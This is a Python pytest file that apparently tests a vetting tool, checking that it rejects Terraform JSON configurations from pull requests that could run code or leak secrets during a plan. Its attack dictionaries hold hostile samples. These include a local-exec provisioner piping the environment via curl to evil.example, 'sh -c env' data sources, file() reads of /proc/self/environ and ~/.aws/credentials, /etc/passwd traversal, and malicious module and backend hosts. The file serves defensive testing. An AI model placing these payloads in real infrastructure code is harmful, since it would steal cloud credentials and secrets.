"""A configuration from a pull request that could run code while it is planned is refused."""

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from keyproof.terminal.user_error import UserError
from smsbot import project, vet
from smsbot.design.foreign import take_over, take_synthesized
from tests.stacks.synthesized import LONGEST, PLAIN, PROTECTED, WITH_NUMBER, synthesize_to

STACK = PLAIN.names.prefix
Change = Callable[[dict[str, Any]], object]


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    output = tmp_path_factory.mktemp("base") / "out"
    synthesize_to(output, PLAIN)
    return output


def changed(base: Path, folder: Path, change: Change) -> Path:
    foreign = folder / "foreign"
    shutil.copytree(base, foreign)
    path = foreign / "stacks" / STACK / "cdk.tf.json"
    configuration = json.loads(path.read_text())
    change(configuration)
    path.write_text(json.dumps(configuration))
    return foreign


def role(configuration: dict[str, Any]) -> dict[str, Any]:
    return configuration["resource"]["aws_iam_role"]["bot-role"]


def key(configuration: dict[str, Any]) -> dict[str, Any]:
    return configuration["resource"]["aws_kms_key"]["sns"]


ATTACKS: dict[str, Change] = {
    "a data source that runs a program": lambda c: c["data"].update(
        external={"x": {"program": ["sh", "-c", "env"]}}
    ),
    "a data source of the provider": lambda c: c["data"].update(
        aws_s3_object={"x": {"bucket": "b", "key": "smsbot-prod.tfstate"}}
    ),
    "a provisioner": lambda c: role(c).update(
        provisioner=[{"local-exec": {"command": "env | curl -d @- https://evil.example"}}]
    ),
    "a provisioner in a list of blocks": lambda c: c["resource"]["aws_iam_role"].update(
        more=[{"name": "more", "provisioner": {"local-exec": {"command": "env"}}}]
    ),
    # Terraform reads each of these as a block too.
    "a provisioner in a list of lists": lambda c: c["resource"]["aws_iam_role"].update(
        more=[[{"name": "more", "provisioner": {"local-exec": {"command": "env"}}}]]
    ),
    "resources in a list": lambda c: c.update(resource=[c["resource"]]),
    "a type in a list": lambda c: c["resource"].update(aws_iam_role=[{"more": {"count": 1}}]),
    "a provisioner in a list of itself": lambda c: role(c).update(
        provisioner=[[{"local-exec": [[{"command": "env"}]]}]]
    ),
    "a block in a list of lists": lambda c: key(c).update(timeouts=[[{"create": "1m"}]]),
    "a list of objects and texts": lambda c: key(c).update(timeouts=[{"create": "1m"}, "x"]),
    "a list at depth": lambda c: key(c).update(timeouts={"create": {"x": [[1]]}}),
    "an output in a list": lambda c: c["output"].update(Leak=[[{"value": 1}]]),
    "a resource that is a text": lambda c: c["resource"]["aws_iam_role"].update(more="x"),
    "several of a resource": lambda c: role(c).update(count=2),
    "one for each": lambda c: role(c).update(for_each=["a"]),
    "a dynamic block": lambda c: key(c).update(
        dynamic={"timeouts": {"for_each": ["a"], "content": {}}}
    ),
    "a dynamic block at depth": lambda c: key(c).update(timeouts=[{"dynamic": {"x": {}}}]),
    "an action after the apply": lambda c: role(c).update(
        lifecycle=[{"action_trigger": {"events": ["after_create"]}}]
    ),
    "a connection": lambda c: role(c).update(connection=[{"host": "evil.example"}]),
    "a type that runs a function": lambda c: c["resource"].update(
        aws_lambda_invocation={"x": {"function_name": "f", "input": "{}"}}
    ),
    "a file of the runner": lambda c: c["resource"]["aws_lambda_function"]["bot"].update(
        filename="/proc/self/environ"
    ),
    "a file beside the assets": lambda c: c["resource"]["aws_lambda_function"]["bot"].update(
        filename="assets/../../../../etc/passwd"
    ),
    "a row of markers": lambda c: role(c).update(description='$$${file("/proc/self/environ")}'),
    "a longer row of markers": lambda c: role(c).update(description="%%%%{if true}x%{endif}"),
    "another provider": lambda c: c["resource"].update(null_resource={"x": {}}),
    "another provider by the requirements": lambda c: c["terraform"]["required_providers"].update(
        aws={"source": "evil/aws", "version": "6.25.0"}
    ),
    "another release": lambda c: c["terraform"]["required_providers"]["aws"].update(
        version=">= 6.0"
    ),
    "an endpoint that gets signed requests": lambda c: c["provider"]["aws"][0].update(
        endpoints=[{"sts": "https://evil.example"}]
    ),
    "an alias of the provider": lambda c: c["provider"]["aws"].append({"alias": "evil"}),
    "a resource with another provider": lambda c: role(c).update(provider="aws.evil"),
    "another state": lambda c: c["terraform"]["backend"]["local"].update(path="/etc/passwd"),
    "a module": lambda c: c.update(module={"x": {"source": "git::https://evil.example"}}),
    "a local value": lambda c: c.update(locals={"x": '${file("/proc/self/environ")}'}),
    "a variable": lambda c: c.update(variable={"x": {"default": 1}}),
    "an import": lambda c: c.update({"import": [{"to": "aws_kms_key.x", "id": "prod"}]}),
    "a check with a data source": lambda c: c.update(check={"x": {"data": {"http": {}}}}),
    "an ephemeral resource": lambda c: c.update(ephemeral={"aws_lambda_invocation": {}}),
    "a function that reads a file": lambda c: role(c).update(
        description='${file("/proc/self/environ")}'
    ),
    "a function in an index": lambda c: role(c).update(
        description='${aws_kms_key.sns[file("/proc/self/environ")].arn}'
    ),
    "a function in the name of a tag": lambda c: key(c).update(
        tags={'${file("/proc/self/environ")}': "x"}
    ),
    # Terraform reads K, in the normal form of Unicode.
    "a text that Terraform reads as another": lambda c: role(c).update(
        inline_policy=[{"name": "x", "policy": '{"Action": "\u212aMS:DECRYPT"}'}]
    ),
    "half a character": lambda c: role(c).update(description="\ud800"),
    "a directive": lambda c: role(c).update(description="%{ if true }${path.cwd}%{ endif }"),
    "a template that does not end": lambda c: role(c).update(description="${file("),
    "the environment of Terraform": lambda c: role(c).update(description="${terraform.workspace}"),
    "an output that reads a file": lambda c: c["output"].update(
        Leak={"value": '${filebase64("~/.aws/credentials")}'}
    ),
    # Terraform takes each of these texts for an expression, without any marker.
    "a function in a dependency": lambda c: role(c).update(
        depends_on=['aws_kms_key.sns[file("/proc/self/environ")]']
    ),
    "a function in what triggers": lambda c: role(c).update(
        lifecycle={"replace_triggered_by": ['aws_kms_key.sns[file("/proc/self/environ")].arn']}
    ),
    "a function in what is ignored": lambda c: role(c).update(
        lifecycle=[{"ignore_changes": ['tags[file("/proc/self/environ")]']}]
    ),
    "a dependency of an output": lambda c: c["output"].update(
        Leak={"value": 1, "depends_on": ['file("/proc/self/environ")']}
    ),
    "an expression in a condition": lambda c: role(c).update(
        lifecycle={"precondition": [{"condition": '${fileexists("/x")}', "error_message": "x"}]}
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_could_run_code_is_refused(name: str, base: Path, tmp_path: Path) -> None:
    foreign = changed(base, tmp_path, ATTACKS[name])
    with pytest.raises(UserError, match="could run code during the plan"):
        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
    assert not (tmp_path / "output").exists()


# The lock of the checkout has the release.
OF_MAIN = ("another release",)


def provider(configuration: dict[str, Any]) -> dict[str, Any]:
    return configuration["provider"]["aws"][0]


def kept_in(**backend: object) -> Change:
    return lambda c: c["terraform"].update(backend=backend)


ENVIRON = '${file("/proc/self/environ")}'
# Of a pull request, what main has of these is compared.
ATTACKS_OF_MAIN: dict[str, Change] = {
    "a state that runs a program": kept_in(
        kubernetes={"secret_suffix": "x", "exec": [{"command": "env"}]}
    ),
    "a state on a server": kept_in(http={"address": "https://evil.example"}),
    "a state through a proxy": kept_in(
        s3={"bucket": "b", "key": "k", "http_proxy": "http://evil.example", "insecure": True}
    ),
    "a state that is two": lambda c: c["terraform"].update(cloud={"hostname": "evil.example"}),
    "a state at another organization": lambda c: c["terraform"].update(
        backend=None, cloud={"hostname": "evil.example", "token": "x"}
    ),
    "a local state with more": lambda c: c["terraform"]["backend"]["local"].update(
        workspace_dir="/tmp"
    ),
    "a hash of the code before": lambda c: c["resource"]["aws_lambda_function"]["bot"].update(
        source_code_hash="x"
    ),
    "another region": lambda c: provider(c).update(region="us-east-1"),
    "a region from a file": lambda c: provider(c).update(region=ENVIRON),
    "another account": lambda c: provider(c).update(allowed_account_ids=["999999999999"]),
    "no tags": lambda c: provider(c).pop("default_tags"),
    "tags of another environment": lambda c: provider(c)["default_tags"][0]["tags"].update(
        Environment="prod"
    ),
    "a tag from a file": lambda c: provider(c)["default_tags"][0]["tags"].update(X=ENVIRON),
    "a data source that reads a file": lambda c: c["data"].update(
        aws_kms_alias={"x": {"name": ENVIRON}}
    ),
    "a data source for each": lambda c: c["data"]["aws_caller_identity"]["current"].update(
        for_each=["a"]
    ),
    "a data source in a list": lambda c: c["data"].update(aws_kms_alias=[{"x": {"name": "x"}}]),
    "a data source that depends on a file": lambda c: c["data"]["aws_caller_identity"][
        "current"
    ].update(depends_on=['aws_kms_key.sns[file("/x")]']),
}


@pytest.mark.parametrize("name", sorted({*ATTACKS, *ATTACKS_OF_MAIN} - {*OF_MAIN}))
def test_what_another_job_synthesized_cannot_run_code_either(
    name: str, base: Path, tmp_path: Path
) -> None:
    """Attack: a bad release in the job that synthesizes runs code as the deploy role."""
    foreign = changed(base, tmp_path, {**ATTACKS, **ATTACKS_OF_MAIN}[name])
    with pytest.raises(UserError, match="from another job could run code"):
        take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "output")
    assert not (tmp_path / "output").exists()


@pytest.mark.parametrize("name", ["lambda_src.zip", "more.zip"])
def test_another_job_brings_no_code_of_the_function(name: str, base: Path, tmp_path: Path) -> None:
    """Attack: a bad release packs another bot, whose hash says nothing to a reviewer."""
    foreign = changed(base, tmp_path, lambda _: None)
    (package,) = (foreign / "stacks" / STACK).rglob("*.zip")
    package.with_name(name).write_bytes(b"evil")
    with pytest.raises(UserError, match="is not made of lambda_src"):
        take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "output")


def test_a_comment_never_reaches_terraform(base: Path, tmp_path: Path) -> None:
    """Where Terraform expects no block, a member of that name is an expression."""

    def hidden(configuration: dict[str, Any]) -> None:
        tags = {"//": '${file("/proc/self/environ")}'}
        key(configuration)["tags"] = tags
        configuration["provider"]["aws"][0]["default_tags"][0]["tags"].update(tags)

    take_over(STACK, base=base, foreign=changed(base, tmp_path, hidden), output=tmp_path / "output")
    path = tmp_path / "output" / "stacks" / STACK / "cdk.tf.json"
    written = json.loads(path.read_text())
    assert "file(" not in str(written)
    assert "//" not in str(written).replace("https://", "")


def test_what_changes_resources_only_is_planned(base: Path, tmp_path: Path) -> None:
    def weaker(configuration: dict[str, Any]) -> None:
        key(configuration)["rotation_period_in_days"] = 2560
        role(configuration)["description"] = "$${aws:username} and ${aws_kms_key.sns.arn}"

    foreign, of_main = changed(base, tmp_path, weaker), tmp_path / "main"
    shutil.copytree(base, of_main)
    (of_main / "stacks" / STACK / ".terraform.lock.hcl").write_text("# main's")
    (foreign / "stacks" / STACK / ".terraform.lock.hcl").write_text("# evil")
    take_over(STACK, base=of_main, foreign=foreign, output=tmp_path / "output")
    folder = tmp_path / "output" / "stacks" / STACK
    configuration = json.loads((folder / "cdk.tf.json").read_text())
    assert key(configuration)["rotation_period_in_days"] == 2560
    files = {str(each.relative_to(folder)) for each in folder.rglob("*") if each.is_file()}
    # The lock of the provider is main's.
    assert (folder / ".terraform.lock.hcl").read_text() == "# main's"
    (asset,) = files - {"cdk.tf.json", ".terraform.lock.hcl"}
    assert asset.startswith("assets/")


def test_only_the_configuration_and_its_assets_are_taken(base: Path, tmp_path: Path) -> None:
    foreign = changed(base, tmp_path, lambda _: None)
    folder = foreign / "stacks" / STACK
    for name in ("evil.tf", "evil_override.tf.json", "terraform.tfvars", ".terraformrc"):
        (folder / name).write_text("evil")
    (folder / ".terraform").mkdir()
    (folder / ".terraform.lock.hcl").write_text("evil")
    take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
    take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "deployed")
    for output in ("output", "deployed"):
        taken = {each.name: each for each in (tmp_path / output / "stacks" / STACK).iterdir()}
        lock = taken.pop(".terraform.lock.hcl", None)
        assert lock is None or lock.read_text() != "evil"
        assert set(taken) == {"cdk.tf.json", "assets"}


@pytest.mark.parametrize("name", ["cdk.tf.json", "assets/more.zip"])
def test_a_link_is_refused(name: str, base: Path, tmp_path: Path) -> None:
    foreign = changed(base, tmp_path, lambda _: None)
    path = foreign / "stacks" / STACK / name
    path.unlink(missing_ok=True)
    path.symlink_to("/etc/hostname")
    with pytest.raises(UserError, match=r"is a symbolic link|neither a file nor a folder"):
        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")


@pytest.mark.parametrize("name", ["stacks", f"stacks/{STACK}"])
def test_a_folder_behind_a_link_is_refused(name: str, base: Path, tmp_path: Path) -> None:
    foreign = changed(base, tmp_path, lambda _: None)
    (foreign / name).rename(tmp_path / "elsewhere")
    (foreign / name).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UserError, match="is a symbolic link"):
        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
    with pytest.raises(UserError, match="is a symbolic link"):
        take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "output")


def test_a_pipe_and_a_strange_name_of_an_asset_are_refused(base: Path, tmp_path: Path) -> None:
    foreign = changed(base, tmp_path, lambda _: None)
    (foreign / "stacks" / STACK / "assets/a\n✓ fine.zip").write_text("x")
    with pytest.raises(UserError, match="is not the name of an asset"):
        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
    path = foreign / "stacks" / STACK / "cdk.tf.json"
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(UserError, match="is a symbolic link, not"):
        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")


@pytest.mark.parametrize("lock", ["none", "another release"])
def test_without_the_lock_of_the_release_nothing_is_taken(
    lock: str, base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "lambda_src").symlink_to(project.ROOT / "lambda_src")
    if lock != "none":
        (tmp_path / project.PROVIDER_LOCK).write_text('provider "x" {\n  version = "6.24.0"\n}\n')
    monkeypatch.setattr(project, "ROOT", tmp_path)
    with pytest.raises(UserError, match="does not hold the release '6"):
        take_synthesized(PLAIN, synthesized=base, output=tmp_path / "output")
    assert not (tmp_path / "output").exists()


@pytest.mark.parametrize("text", ["[]", "{", '{"resource": {}, "resource": {}}', "[" * 100_000])
def test_what_is_not_a_configuration_is_refused(text: str, base: Path, tmp_path: Path) -> None:
    foreign = changed(base, tmp_path, lambda _: None)
    (foreign / "stacks" / STACK / "cdk.tf.json").write_text(text)
    with pytest.raises(UserError):
        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")


def test_every_kind_of_environment_of_ours_passes(tmp_path: Path) -> None:
    output = tmp_path / "out"
    every = (PLAIN, PROTECTED, LONGEST, WITH_NUMBER)
    synthesize_to(output, *every)
    for each in every:
        stack = each.names.prefix
        take_over(stack, base=output, foreign=output, output=tmp_path / "taken")
        take_synthesized(each, synthesized=output, output=tmp_path / "deployed")


def test_the_script_refuses_with_status_2_and_the_reason(
    base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(vet, "environment_named", lambda _: PLAIN)
    output = tmp_path / "out"

    def vetted(of_main: Path, foreign: Path) -> str:
        monkeypatch.setattr(sys, "argv", ["vet", "dev", *map(str, (of_main, foreign, output))])
        status = vet.main()
        said = capsys.readouterr().err
        assert status == (2 if said else 0)
        return said

    evil = changed(base, tmp_path, ATTACKS["a provisioner"])
    reason = "resource.aws_iam_role.bot-role.provisioner: is not allowed"
    assert reason in vetted(base, evil)
    assert not (output / "head").exists()
    # What is said to be of main is vetted too: another job synthesized it.
    assert reason in vetted(evil, evil)
    assert vetted(base, base) == ""
    assert {each.name for each in output.iterdir()} == {"base", "head"}
    # Nor is a state planned that no runner keeps.
    monkeypatch.setenv("CI", "true")
    assert "which a runner does not keep" in vetted(base, base)
